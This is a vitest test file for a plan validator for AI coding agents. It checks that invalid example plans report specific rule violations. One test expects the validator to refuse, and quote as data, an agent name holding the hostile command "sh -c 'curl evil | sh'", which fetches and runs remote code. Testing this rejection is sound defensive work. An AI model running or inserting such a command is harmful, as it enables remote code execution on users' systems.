// Every folder of examples/invalid/ breaks one rule; each must report exactly the problems listed
// here (rule, file, field and, where it matters, line). The plans of examples/plans/ must be valid.
import { readdir } from "node:fs/promises";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { loadPlan } from "../../../src/core/plan/load.js";
import type { PlanRule } from "../../../src/core/plan/problem.js";
import { validatePlan } from "../../../src/core/plan/validate.js";
import { ADAPTERS } from "../../../src/core/schemas/adapters.js";

const EXAMPLES = path.resolve(import.meta.dirname, "../../../examples");

interface Expected {
  rule: PlanRule;
  file: string;
  field?: string;
  line?: number;
}

const CASES: Record<string, Expected[]> = {
  cycle: [{ rule: "cycle", file: "tasks/feature.md", field: "dependencies[0]", line: 6 }],
  "unknown-dependency": [{ rule: "unknown-dependency", file: "tasks/feature.md", field: "dependencies[1]", line: 7 }],
  "self-dependency": [{ rule: "self-dependency", file: "tasks/feature.md", field: "dependencies[1]", line: 7 }],
  "duplicate-dependency": [{ rule: "duplicate-dependency", file: "tasks/feature.md", field: "dependencies[1]" }],
  "duplicate-id": [{ rule: "duplicate-id", file: "tasks/docs-copy.md", field: "id", line: 2 }],
  "id-file-mismatch": [{ rule: "id-file-mismatch", file: "tasks/documentation.md", field: "id", line: 2 }],
  "bad-id": [
    { rule: "bad-id", file: "dag.json", field: "nodes[4].id" },
    { rule: "bad-id", file: "tasks/Release.md", field: "id", line: 2 },
  ],
  "refinery-without-dependencies": [{ rule: "refinery-without-dependencies", file: "tasks/final-check.md", field: "dependencies" }],
  "type-mismatch": [{ rule: "type-mismatch", file: "dag.json", field: "nodes[1].type" }],
  "metadata-totals": [{ rule: "metadata-totals", file: "dag.json", field: "metadata.totalTasks" }],
  "dag-disagrees": [{ rule: "dag-disagrees", file: "dag.json", field: "nodes[1].dependencies", line: 12 }],
  "dag-missing-node": [
    { rule: "dag-disagrees", file: "dag.json", field: "nodes" },
    { rule: "dag-disagrees", file: "dag.json", field: "nodes[2].dependencies" },
  ],
  "dag-extra-node": [{ rule: "dag-disagrees", file: "dag.json", field: "nodes[4]" }],
  "dag-type-differs": [{ rule: "dag-disagrees", file: "dag.json", field: "nodes[1].agentType" }],
  "plan-id-mismatch": [{ rule: "plan-id-mismatch", file: "dag.json", field: "planId", line: 3 }],
  "missing-file": [{ rule: "missing-file", file: "plan.md" }],
  "missing-section": [{ rule: "missing-section", file: "tasks/docs.md", field: "## Context" }],
  "empty-section": [{ rule: "missing-section", file: "tasks/docs.md", field: "## Instructions", line: 20 }],
  "unknown-spec": [{ rule: "unknown-spec", file: "tasks/feature.md", field: "spec", line: 10 }],
  "bad-frontmatter": [{ rule: "invalid-frontmatter", file: "tasks/feature.md", field: "acceptance_criteria", line: 7 }],
  "bad-frontmatter-dependency": [{ rule: "invalid-frontmatter", file: "tasks/integrate.md", field: "dependencies[2]", line: 8 }],
  "bad-frontmatter-unknown-field": [{ rule: "invalid-frontmatter", file: "tasks/feature.md", field: "owner", line: 10 }],
  "removed-field": [{ rule: "removed-field", file: "tasks/feature.md", field: "base_ref", line: 10 }],
  "unknown-model": [{ rule: "unknown-model", file: "tasks/feature.md", field: "model", line: 10 }],
  "unknown-agent": [{ rule: "unknown-agent", file: "tasks/feature.md", field: "agent[1]", line: 12 }],
  "model-not-for-agent": [{ rule: "model-not-for-agent", file: "tasks/feature.md", field: "model", line: 11 }],
  "bad-sentinel": [{ rule: "invalid-frontmatter", file: "tasks/feature.md", field: "sentinel", line: 10 }],
  "sentinel-on-refinery": [{ rule: "sentinel-on-refinery", file: "tasks/integrate.md", field: "sentinel", line: 11 }],
  "no-frontmatter": [{ rule: "invalid-frontmatter", file: "tasks/docs.md", line: 1 }],
  "unreadable-yaml": [{ rule: "unreadable-yaml", file: "tasks/feature.md", line: 4 }],
  "unreadable-json": [{ rule: "unreadable-json", file: "dag.json", line: 15 }],
  "unreadable-json-token": [{ rule: "unreadable-json", file: "dag.json", line: 3 }],
  "unexpected-file": [{ rule: "unexpected-file", file: "tasks/notes.txt" }],
  "overlay-not-append-only": [{ rule: "overlay-not-append-only", file: "overlays/overlay-001.md", field: "added_edges[1]", line: 11 }],
  "overlay-task-exists": [{ rule: "overlay-not-append-only", file: "overlays/overlay-001.md", field: "added_tasks[1]", line: 8 }],
  "overlay-unknown-node": [{ rule: "overlay-not-append-only", file: "overlays/overlay-001.md", field: "added_edges[1].to", line: 12 }],
  "overlay-task-without-file": [{ rule: "overlay-not-append-only", file: "overlays/overlay-001.md", field: "added_tasks[0]", line: 7 }],
  "overlay-numbering": [{ rule: "overlay-numbering", file: "overlays/overlay-002.md" }],
  "dag-not-base-plus-overlays": [{ rule: "dag-not-base-plus-overlays", file: "dag.json", field: "nodes[3].dependencies", line: 28 }],
};

describe("examples/invalid", () => {
  it("has a table entry for every folder, and a folder for every entry", async () => {
    const folders = (await readdir(path.join(EXAMPLES, "invalid"), { withFileTypes: true }))
      .filter((d) => d.isDirectory())
      .map((d) => d.name);
    expect(folders.sort()).toEqual(Object.keys(CASES).sort());
  });

  it.each(Object.entries(CASES))("%s reports exactly its problems", async (name, expected) => {
    const problems = validatePlan(await loadPlan(path.join(EXAMPLES, "invalid", name)));
    expect(problems.map((p) => ({ rule: p.rule, file: p.file, field: p.field }))).toEqual(
      expected.map((e) => ({ rule: e.rule, file: e.file, field: e.field })),
    );
    expected.forEach((e, i) => {
      if (e.line !== undefined) expect(problems[i]!.line, `line of ${e.rule}`).toBe(e.line);
      expect(problems[i]!.message.length).toBeGreaterThan(10);
    });
  });

  it("says why a task's base_ref is refused", async () => {
    const [p] = validatePlan(await loadPlan(path.join(EXAMPLES, "invalid", "removed-field")));
    expect(p!.message).toBe(
      "base_ref is no longer supported: every task branch is cut from the run's integration branch, which holds the work of its dependencies; remove the field",
    );
  });

  it("says why a task's model is refused", async () => {
    const [p] = validatePlan(await loadPlan(path.join(EXAMPLES, "invalid", "unknown-model")));
    expect(p!.message).toBe("unknown tier 'ultra-tier': use low, medium, high or a model id");
  });

  it("says which agent is unknown, quoted as data, and which model an agent cannot take", async () => {
    const [unknown] = validatePlan(await loadPlan(path.join(EXAMPLES, "invalid", "unknown-agent")));
    expect(unknown!.message).toBe(`unknown agent "sh -c 'curl evil | sh'": use one of ${ADAPTERS.join(", ")}`);
    const [model] = validatePlan(await loadPlan(path.join(EXAMPLES, "invalid", "model-not-for-agent")));
    expect(model!.message).toMatch(/^model not for agent: codex cannot take the anthropic model "claude-sonnet-4-5"; name a tier/);
  });

  it("prints a cycle's path", async () => {
    const [p] = validatePlan(await loadPlan(path.join(EXAMPLES, "invalid", "cycle")));
    expect(p!.message).toContain("feature → setup → feature");
  });
});

describe("examples/plans", () => {
  it.each(["semver-lite", "tiny-lru"])("%s is valid", async (name) => {
    const plan = await loadPlan(path.join(EXAMPLES, "plans", name));
    expect(validatePlan(plan)).toEqual([]);
    expect(plan.tasks.length).toBeGreaterThanOrEqual(6);
    expect(plan.dag.data?.nodes.some((n) => n.type === "refinery")).toBe(true);
  });

  it("tiny-lru has one applied overlay that adds a task and an edge", async () => {
    const plan = await loadPlan(path.join(EXAMPLES, "plans", "tiny-lru"));
    expect(plan.overlays.map((o) => o.data?.added_tasks)).toEqual([["fake-clock"]]);
    expect(plan.dag.data?.nodes.find((n) => n.id === "integrate")?.dependencies).toContain("fake-clock");
    expect(plan.tasks.find((t) => t.name === "integrate")?.data?.dependencies).not.toContain("fake-clock");
  });
});
